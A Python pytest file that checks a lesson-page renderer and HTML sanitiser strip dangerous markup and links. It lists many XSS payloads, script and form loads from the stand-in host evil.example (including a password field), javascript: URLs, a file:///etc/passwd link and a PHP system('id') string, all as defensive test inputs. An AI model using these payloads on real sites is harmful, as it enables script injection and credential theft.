"""Sources made to harm: nothing they bring reaches a page, and none keeps the server busy."""

from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.content.pages import Page, Surroundings
from app.content.problems import Findings
from app.content.rendering import Renderer
from app.content.sanitising import sanitise

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "<style>body{background:url(//evil.example)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<title>abuse</title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "<?php system('id') ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<%= 7*7 %>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<details><summary onclick=alert(1)>x</summary></details>",
    "<video src=x onerror=alert(1)>",
    "<video poster=//evil.example/x.png>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    "<p onclick=alert(1)>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style=background:url(//evil.example)>x</p>",
    "<div id=main-content class=govuk-button>x</div>",
    "<section class=waymark-box aria-labelledby=x>y</section>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onfocus=alert(1) tabindex=1 autofocus>",
]
FRAMES_AND_FORMS = [
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<frameset><frame src=//evil.example></frameset>",
    "<portal src=//evil.example></portal>",
    "<form action=//evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select><option>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<isindex action=javascript:alert(1)>",
    "<a href=//evil.example>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=/sign-out>x</a>",
    "<img src=https://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/x 2x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<dialog open>x</dialog>",
]
RAW_HTML = [*SCRIPTS, *HANDLERS, *FRAMES_AND_FORMS]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "java&#x09;script:alert(1)",
    "\\javascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "///evil.example",
    "https:evil.example",
    "https:///evil.example",
    "https://",
    "https://localhost",
    "https://me@evil.example",
    "https://good.example:pass@evil.example",
    "https://good.example:8443/",
    "https://[::1/",
    "https://a.example/{{organisation.name}}",
    "http://plain.example",
    "ftp://files.example",
    "mailto:a@b.example",
    "tel:999",
    "sms:999",
    "/sign-out",
    "/help/../sign-out",
    "/helper",
    "../other.md",
    "#top",
    "?next=x",
    "lesson:",
    "lesson:../say",
    "lesson:say?x",
    "lesson:SAY",
    "lesson://say",
]
PICTURES = [
    "https://evil.example/p.png",
    "//evil.example/p.png",
    "data:image/png;base64,AAAA",
    "javascript:alert(1)",
    "/assets/" + "0" * 64 + ".png",
    "../secret.png",
    "sub/x.png",
    "x.png?y",
    "",
]
FORBIDDEN_TAGS = [
    "script",
    "style",
    "link",
    "meta",
    "base",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "svg",
    "math",
    "template",
    "audio",
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.found


def assert_harmless(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag not in FORBIDDEN_TAGS
        assert not [
            name for name in attributes if name.startswith("on") or name in ("style", "src", "srcset", "poster")
        ]
        assert (attributes.get("href") or "/help").startswith(("https://", "/help", "/modules/first-steps/lessons/"))


def rendered(text: str) -> str:
    around = Surroundings("first-steps", frozenset({"say"}))
    renderer = Renderer(lambda path, line: None)
    page = Page(text, 1, around, Findings("x.md"), prefix="x", shows_pictures=True)
    return renderer.blocks(page) + renderer.line(Page(text, 1, around, Findings("x.md")))


@pytest.mark.parametrize("place", ["{}", "a {} b", "* {}", "> {}", "A\n:   {}", '!!! help "{}"\n    {}', "**{}**"])
@pytest.mark.parametrize("raw", RAW_HTML)
def test_html_is_shown_as_typed(raw: str, place: str) -> None:
    html = rendered(place.replace("{}", raw))
    assert_harmless(html)
    assert not {tag for tag, _ in elements(html)} & {tag for tag, _ in elements(raw)} - {"p", "details", "section"}


@pytest.mark.parametrize("raw", RAW_HTML)
def test_the_last_wall_holds_alone(raw: str) -> None:
    assert_harmless(sanitise(raw))


@pytest.mark.parametrize("target", LINKS)
def test_a_link_goes_to_safe_places_only(target: str, problems: Callable[..., list[str]]) -> None:
    assert_harmless(rendered(f"[words]({target})"))
    (found,) = problems(lesson=f"[words]({target})")
    assert found.startswith("modules/first-steps.md:32: ")


@pytest.mark.parametrize("target", PICTURES)
def test_a_picture_is_one_of_our_own(target: str, problems: Callable[..., list[str]]) -> None:
    html = rendered(f"![words]({target})")
    assert "src=" not in html
    (found,) = problems(lesson=f"![words]({target})")
    assert found.startswith("modules/first-steps.md:32: ")


@given(st.text(alphabet="<>[]()!\"'`*_#&:/=|\\ \nabx{}-~;?1.", max_size=120))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_text_renders_to_harmless_html(text: str) -> None:
    assert_harmless(rendered(text))
